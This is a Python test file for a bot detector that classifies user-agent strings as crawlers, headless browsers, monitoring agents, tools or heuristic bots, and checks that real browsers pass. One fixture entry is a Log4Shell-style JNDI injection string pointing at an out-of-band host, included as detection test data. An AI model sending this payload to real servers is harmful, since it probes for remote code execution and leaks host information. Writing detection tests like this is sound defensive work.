"""collector.bots: headless browsers, monitoring agents, tools, crawlers and the heuristics are
flagged with their reason; real browsers are not; no input makes the check raise.

The corpus agreement (bots included) is checked in test_device.py, on the label the Hit gets.
"""

from __future__ import annotations

import csv
import logging

import pytest
from hypothesis import HealthCheck, example, given
from hypothesis import settings as hsettings
from hypothesis import strategies as st

from collector.bots import (
    NOT_BOT,
    STRONG_KINDS,
    BotDetector,
    BotVerdict,
    load_crawler_patterns,
    with_bot_category,
)
from collector.device import ClientHints, Device
from tests.support import TESTDATA

CORPUS = TESTDATA / "useragents" / "device-detector-sample.csv"
KINDS = ("crawler", "headless", "monitoring", "tool", "heuristic", "empty_user_agent")

CHROME = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
          "Chrome/124.0.0.0 Safari/537.36")
LINUX_CHROME = ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
                "Chrome/124.0.0.0 Safari/537.36")


@pytest.fixture(scope="module")
def bots() -> BotDetector:
    return BotDetector()


FLAGGED = [
    # headless and automated browsers
    ("headless:HeadlessChrome", LINUX_CHROME.replace("Chrome/", "HeadlessChrome/")),  # puppeteer, playwright
    ("headless:PhantomJS", "Mozilla/5.0 (Unknown; Linux x86_64) AppleWebKit/538.1 (KHTML, like Gecko) "
                           "PhantomJS/2.1.1 Safari/538.1"),
    ("headless:Chrome-Lighthouse", "Mozilla/5.0 (Linux; Android 11; moto g power (2022)) "
                                   "AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 "
                                   "Mobile Safari/537.36 Chrome-Lighthouse"),
    ("headless:Lighthouse", CHROME + " Lighthouse"),
    ("headless:Electron", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
                          "Electron/30.0.1 Chrome/124.0.6367.91 Electron/30.0.1 Safari/537.36"),
    ("headless:Cypress", "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 "
                         "(KHTML, like Gecko) Cypress/13.6.0 Chrome/114.0.5735.289 Electron/25.8.4 "
                         "Safari/537.36"),
    # monitoring
    ("monitoring:Pingdom", "Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)"),
    ("monitoring:UptimeRobot", "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)"),
    ("monitoring:StatusCake", "Mozilla/5.0 (compatible; StatusCake)"),
    ("monitoring:Site24x7", "Site24x7"),
    ("monitoring:DatadogSynthetics", LINUX_CHROME + " DatadogSynthetics"),
    ("monitoring:NewRelicSynthetics", LINUX_CHROME + " NewRelicSynthetics/1.0"),
    ("monitoring:BetterUptime", "Better Uptime Bot Mozilla/5.0 (Windows NT 10.0; Win64; x64) "
                                "AppleWebKit/537.36 (KHTML, like Gecko) Chrome/94.0.4606.61 Safari/537.36"),
    ("monitoring:Checkly", LINUX_CHROME.replace("Chrome/", "HeadlessChrome/") + " Checkly/2f3a"),
    ("monitoring:GTmetrix", LINUX_CHROME + " GTmetrix"),
    ("monitoring:ELB-HealthChecker", "ELB-HealthChecker/2.0"),
    ("monitoring:kube-probe", "kube-probe/1.29"),
    # tools
    ("tool:curl", "curl/8.4.0"),
    ("tool:wget", "Wget/1.21.4"),
    ("tool:python-requests", "python-requests/2.31.0"),
    ("tool:Go-http-client", "Go-http-client/2.0"),
    ("tool:okhttp", "okhttp/4.12.0"),
    # the crawler list
    ("crawler:Googlebot", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"),
    ("crawler:Googlebot", "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 "
                          "(KHTML, like Gecko) Chrome/124.0.6367.60 Mobile Safari/537.36 "
                          "(compatible; Googlebot/2.1; +http://www.google.com/bot.html)"),
    ("crawler:bingbot", "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)"),
    # heuristics
    ("heuristic:keyword:HubSeedsBot", "Mozilla/5.0 (compatible; HubSeedsBot/1.0)"),
    ("heuristic:keyword:Fetchy-preview", "Fetchy-preview/2.0 (+https://www.example.org/fetchy)"),
    ("heuristic:url:example.org", "Mozilla/5.0 (compatible; Fetchy 2.0; +https://www.example.org/fetchy)"),
    ("heuristic:keyword:WebbCrawler", "WebbCrawler 1.0 ( http://badcheese.com/crawler.html )"),
    ("heuristic:keyword:FeedBot", "Mozilla/5.0 (ShopAlike; LadenZeile) FeedBot"),
    ("heuristic:jndi", "${jndi:ldap://${hostName}.useragent.example.oast.live}"),
    ("heuristic:url:backlink-check.de", "Backlink-Check.de (+http://www.backlink-check.de/bot.html)"),
    ("heuristic:contact:example.org", "Grabby/1.0 (mailto ops@example.org)"),
    ("heuristic:compatible:Grabby", "Mozilla/5.0 (compatible; Grabby/1.0)"),
    ("heuristic:bare_mozilla", "Mozilla/5.0"),
    ("empty_user_agent", ""),
    ("empty_user_agent", " \t "),
]


@pytest.mark.parametrize(("reason", "ua"), FLAGGED)
def test_flagged_with_reason(bots: BotDetector, reason: str, ua: str) -> None:
    """With the reason, and strong (what the filter policy drops) only for the kinds that
    name themselves: crawlers, headless and monitoring agents."""
    assert bots.check(ua) == BotVerdict(True, reason, reason.split(":")[0] in STRONG_KINDS)


REAL = [
    CHROME,
    CHROME + " Edg/124.0.0.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.4 Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.4 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/124.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Linux; Android 10; CUBOT X30) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/120.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; WOW64; Trident/7.0; rv:11.0) like Gecko",
    "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1; Trident/7.0; SLCC2; .NET CLR 2.0.50727)",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 16_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Mobile/15E148 [FBAN/FBIOS;FBAV/440.0.0.33.117;FBBV/539017473;FBDV/iPhone14,5;FBMD/iPhone;FBSN/iOS]",
    # packaged Electron apps are people: they name themselves before Chrome/
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Slack/4.36.140 "
    "Chrome/120.0.6099.291 Electron/28.2.2 Safari/537.36",
    "Mozilla/5.0 (SMART-TV; Linux; Tizen 6.0) AppleWebKit/537.36 (KHTML, like Gecko) 76.0.3809.146/6.0 "
    "TV Safari/537.36",
    "Mozilla/5.0 (PlayStation; PlayStation 5/2.26) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/13.0 Safari/605.1.15",
    "Microsoft Office Word/16.78.1008 (Mac OS/14.0; Desktop; en-US; NonAppStore; Apple/Mac15,4)",
    # the classes of issue 20, each once seen filtered: an Android 15 build id some crawler
    # shares (AP3A.240617.008), "bot" in a model name, an OS service with no version token,
    # a podcast app's URL
    "Mozilla/5.0 (Linux; Android 15; SM-S928B Build/AP3A.240617.008; wv) AppleWebKit/537.36 "
    "(KHTML, like Gecko) Version/4.0 Chrome/131.0.6778.39 Mobile Safari/537.36 Instagram "
    "357.0.0.25.101 Android (35/15; 480dpi; 1080x2340; samsung; SM-S928B; e3q; qcom; en_GB; 123)",
    "Mozilla/5.0 (Linux; Android 8.1.0; M bot 54 Build/O11019) AppleWebKit/537.36 (KHTML, like "
    "Gecko) Chrome/83.0.4103.106 Mobile Safari/537.36",
    "com.apple.WebKit.Networking/8618.1.15.10.15 CFNetwork/1485 Darwin/23.1.0",
    "desktop",
    "Acme Link Agent v.1d.2",
    "Overcast ( http://overcast.fm/; Apple Watch podcast app)",
]


@pytest.mark.parametrize("ua", REAL)
def test_real_browsers_are_not_flagged(bots: BotDetector, ua: str) -> None:
    assert bots.check(ua) == NOT_BOT


def test_headless_chrome_named_in_client_hints(bots: BotDetector) -> None:
    hints = ClientHints.from_headers(
        {b"sec-ch-ua": b'"HeadlessChrome";v="124", "Chromium";v="124", "Not-A.Brand";v="99"'})
    assert bots.check(CHROME, hints) == BotVerdict(True, "headless:HeadlessChrome", True)
    real = ClientHints.from_headers(
        {b"sec-ch-ua": b'"Google Chrome";v="124", "Chromium";v="124", "Not-A.Brand";v="99"'})
    assert bots.check(CHROME, real) == NOT_BOT
    assert bots.check("curl/8.4.0", hints) == BotVerdict(True, "tool:curl")  # the agent's reason first


def test_corpus_bots_are_named_by_kind(bots: BotDetector) -> None:
    with CORPUS.open(newline="", encoding="utf-8") as f:
        rows = [row for row in csv.DictReader(f) if row["device_type"] == "bot"]
    verdicts = [bots.check(row["user_agent"]) for row in rows]
    assert sum(v.is_bot for v in verdicts) >= 0.85 * len(rows)
    for v in verdicts:
        if v.is_bot:
            assert v.reason is not None
            assert v.reason.split(":")[0] in KINDS


def test_packaged_crawler_list_is_loaded() -> None:
    patterns = load_crawler_patterns()
    assert len(patterns) > 1000
    assert any("Googlebot" in p for p in patterns)


def test_a_rule_the_regex_engine_rejects_is_left_out(caplog: pytest.LogCaptureFixture) -> None:
    with caplog.at_level(logging.WARNING, logger="collector.bots"):
        bots = BotDetector(crawler_patterns=[r"(?<=x)Lookbehind", r"Crawly/"])
    assert "Lookbehind" in caplog.text
    assert bots.check("Crawly/1.0 x") == BotVerdict(True, "crawler:Crawly", True)
    assert bots.check(CHROME) == NOT_BOT


def test_cache_is_a_bounded_lru() -> None:
    bots = BotDetector(cache_size=4, crawler_patterns=[])
    agents = [f"curl/8.{i}.0" for i in range(10)]
    for ua in agents:
        bots.check(ua)
    bots.check(agents[-1])
    assert bots.cache_info() == (1, 10)
    bots.check(agents[0])
    assert bots.cache_info() == (1, 11)
    with pytest.raises(ValueError, match="cache_size"):
        BotDetector(cache_size=-1)


def test_with_bot_category() -> None:
    device = Device("desktop", None, None, "Chrome", "124.0.0.0", "Windows", "10")
    assert with_bot_category(device, NOT_BOT) is device
    bot = with_bot_category(device, BotVerdict(True, "tool:curl"))
    assert bot == Device("bot", None, None, "Chrome", "124.0.0.0", "Windows", "10")


@given(ua=st.text(st.characters(exclude_categories=()), max_size=400) | st.sampled_from(REAL),
       brands=st.lists(st.tuples(st.text(max_size=40), st.text(max_size=10)), max_size=5))
@example(ua="\ud800Googlebot/2.1", brands=[])
@example(ua="x" * 100_000, brands=[("Headless\udfff", "1")])
@hsettings(max_examples=300, suppress_health_check=[HealthCheck.too_slow])
def test_never_raises(bots: BotDetector, ua: str, brands: list[tuple[str, str]]) -> None:
    verdict = bots.check(ua, ClientHints(brands=tuple(brands)))
    assert verdict.is_bot == (verdict.reason is not None)
    assert verdict == bots.check(ua, ClientHints(brands=tuple(brands)))
